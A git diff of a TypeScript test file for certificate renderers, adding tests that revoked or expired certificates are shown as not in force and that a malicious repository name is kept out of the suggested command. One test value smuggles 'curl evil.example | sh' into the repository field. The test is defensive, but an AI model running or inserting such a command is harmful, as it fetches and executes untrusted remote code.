@@ -6,18 +6,15 @@ import type { DoorAnswer } from '../../src/model/door.ts'
 import { renderCertificateHtml } from '../../src/reporting/renderers/certificate-html.ts'
 import { renderCertificateMarkdown } from '../../src/reporting/renderers/certificate-markdown.ts'
 import { renderDoor } from '../../src/reporting/renderers/certificate-terminal.ts'
-import { CERTIFICATES, certificateFiles, hostileCertificate } from '../support/certificate-scenarios.ts'
+import { aboutOf, CERTIFICATES, certificateFiles, hostileCertificate } from '../support/certificate-scenarios.ts'
 import { certificate } from '../support/certificates.ts'
 import { certificateOf } from '../support/issuing.ts'
 import { HOSTILE } from '../support/scenarios.ts'
 import { flawsOf, htmlFlawsOf } from '../support/well-formed.ts'
 
-const ABOUT: { digest: string; signing: Signing } = {
-  digest: 'd'.repeat(64),
-  signing: { state: 'unsigned', why: 'the plan has no attestations' },
-}
-const markdown = (of: Certificate): string => renderCertificateMarkdown(of, ABOUT)
-const html = (of: Certificate): string => renderCertificateHtml(of, ABOUT)
+const UNSIGNED: Signing = { state: 'unsigned', why: 'the plan has no attestations' }
+const markdown = (of: Certificate): string => renderCertificateMarkdown(of, aboutOf(of, UNSIGNED))
+const html = (of: Certificate): string => renderCertificateHtml(of, aboutOf(of, UNSIGNED))
 
 describe.each([
   ['Markdown', markdown],
@@ -78,6 +75,42 @@ describe.each(Object.entries(CERTIFICATES))('%s', (name, build) => {
   })
 })
 
+it('no command to type holds anything but a repository’s name', () => {
+  for (const render of [markdown, html]) {
+    const text = render({ ...certificateOf(), repository: 'acme/shop; curl evil.example | sh' })
+    expect(text).toContain('--repository OWNER/REPO --commit')
+    expect(text).not.toMatch(/--repository acme/)
+  }
+})
+
+describe('what is not in force', () => {
+  const of = certificateOf()
+  const revoked = aboutOf(of, UNSIGNED, [of.id])
+
+  it.each([
+    ['Markdown', renderCertificateMarkdown(of, revoked)],
+    ['the page', renderCertificateHtml(of, revoked)],
+  ])('%s says so first, and nowhere that it is active', (_, text) => {
+    expect(text).toMatch(/✗\srevoked/)
+    expect(text.indexOf('not in force since 2026-11-23')).toBeLessThan(text.indexOf('met the criteria'))
+    expect(text).not.toMatch(/✓\sactive|>active/)
+  })
+
+  it('the page is red where it is revoked or expired, and green only where it is active', () => {
+    const toneOf = (text: string): string => /<main class="(\w+)">/.exec(text)![1]!
+    expect(toneOf(renderCertificateHtml(of, revoked))).toBe('bad')
+    expect(
+      toneOf(
+        renderCertificateHtml(
+          { ...of, validUntil: '2026-11-22T10:00:00.000Z' },
+          aboutOf({ ...of, validUntil: '2026-11-22T10:00:00.000Z' }, UNSIGNED),
+        ),
+      ),
+    ).toBe('bad')
+    expect(toneOf(html(of))).toBe('good')
+  })
+})
+
 describe('what only looks like being done', () => {
   const base = certificateOf()
 
@@ -105,7 +138,7 @@ describe('what only looks like being done', () => {
 
   it('a signature that is not there has no command that looks for it', () => {
     expect(html(base)).not.toContain('gh attestation')
-    const signed = renderCertificateHtml(base, { ...ABOUT, signing: { state: 'signed', bundle: 'b'.repeat(64), url: null } })
+    const signed = renderCertificateHtml(base, aboutOf(base, { state: 'signed', bundle: 'b'.repeat(64), url: null }))
     expect(signed).toContain('gh attestation verify certificate.json')
   })
 })
